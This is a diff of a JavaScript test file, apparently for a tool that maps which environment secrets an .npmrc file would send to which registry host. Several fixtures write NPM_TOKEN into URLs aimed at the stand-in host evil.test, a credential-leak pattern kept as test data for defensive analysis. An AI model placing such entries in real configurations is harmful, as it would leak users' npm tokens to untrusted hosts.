@@ -85,7 +85,7 @@ describe('an .npmrc', () => {
     ['//example.com/:_authToken=${NPM_TOKEN}', ['NPM_TOKEN example.com']],
     ['//Example.com:4873/npm/:_password=${CI_JOB_TOKEN}', ['CI_JOB_TOKEN example.com:4873']],
     ['//example.com/:_authToken=${NPM_TOKEN-none}', ['NPM_TOKEN example.com']],
-    ['//evil.test/:_authToken=https://registry.npmjs.org/${NPM_TOKEN}', ['NPM_TOKEN evil.test']],
+    ['//evil.test/:_authToken=https://example.com/${NPM_TOKEN}', ['NPM_TOKEN evil.test']],
     ['registry=https://example.com/${NPM_TOKEN}/', ['NPM_TOKEN example.com']],
     ['registry=https://${NPM_TOKEN}.evil.test/', ['NPM_TOKEN ${npm_token}.evil.test']],
     ['registry=https://${NPM_TOKEN}@evil.test/', ['NPM_TOKEN evil.test']],
@@ -94,8 +94,8 @@ describe('an .npmrc', () => {
       'registry=https://a.test/\n@s:registry=https://b.test\n_authToken=${NPM_TOKEN}',
       ['NPM_TOKEN a.test', 'NPM_TOKEN b.test'],
     ],
-    ['_authToken=${NPM_TOKEN}', ['NPM_TOKEN registry.npmjs.org']],
     // Where it goes is in the user's own hands.
+    ['_authToken=${NPM_TOKEN}', []],
     ['registry=${NPM_REGISTRY}', []],
     ['registry=https://${NPM_HOST}/${NPM_TOKEN}', []],
     ['//${NPM_HOST}:4873/:_authToken=${NPM_TOKEN}', []],
